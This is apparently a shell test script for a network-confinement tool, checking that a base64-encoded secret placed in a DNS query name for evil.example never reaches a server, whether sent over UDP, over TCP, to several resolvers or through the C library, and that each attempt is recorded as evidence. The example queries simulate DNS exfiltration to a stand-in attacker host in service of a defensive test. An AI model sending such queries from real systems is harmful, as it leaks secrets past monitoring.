#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# D01: a secret in a name that is asked for reaches no server.
# shellcheck source=../lib.sh
. "$(dirname "$0")/../lib.sh"
in_world --net

body()
{
	dnsd 'evil.example=9.9.9.9' '*=9.9.9.9'
	PORT=1
	door
	OPTIONS="$OPTIONS --evidence $OUT/evidence"
	control 'ask' ./probe dns 127.0.0.1 A c2VjcmV0.evil.example
	has 'the server heard it' "$T/dnsd.stderr" c2VjcmV0
	for server in 127.0.0.1 8.8.8.8 198.18.255.254; do
		inside "ask $server" ./probe dns "$server" A c2VjcmV1.evil.example
		has 'the answer is a sink' "$T/stdout" first=198.19.
	done
	inside 'over TCP' ./probe dns 127.0.0.1 A c2VjcmV1.evil.example tcp
	inside 'by the C library' getent hosts c2VjcmV1.evil.example
	cordon -- ./probe dns 127.0.0.1 TXT c2VjcmV1.evil.example
	has_not 'the server never heard it' "$T/dnsd.stderr" c2VjcmV1
	has_event 'it is on record' "$OUT/evidence" name c2VjcmV1.evil.example
	stop dnsd
	OPTIONS=
}
for_each_who body
plan
